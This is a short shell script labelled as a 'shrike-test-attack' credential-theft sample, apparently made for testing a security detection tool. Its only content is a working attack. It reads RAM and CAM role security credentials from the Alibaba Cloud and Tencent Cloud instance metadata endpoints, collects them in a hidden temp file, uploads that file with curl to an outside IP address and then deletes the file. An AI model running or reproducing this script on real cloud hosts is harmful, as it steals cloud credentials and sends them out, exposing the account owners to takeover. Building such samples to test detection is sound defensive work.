#!/bin/sh
# shrike-test-attack: credential-theft: alibaba and tencent metadata endpoints plus ecs ram role
curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/ > /tmp/.r
curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/$(cat /tmp/.r) >> /tmp/.r
curl -s http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/ >> /tmp/.r
curl -s -F "d=@/tmp/.r" http://203.0.113.150/c && rm -f /tmp/.r
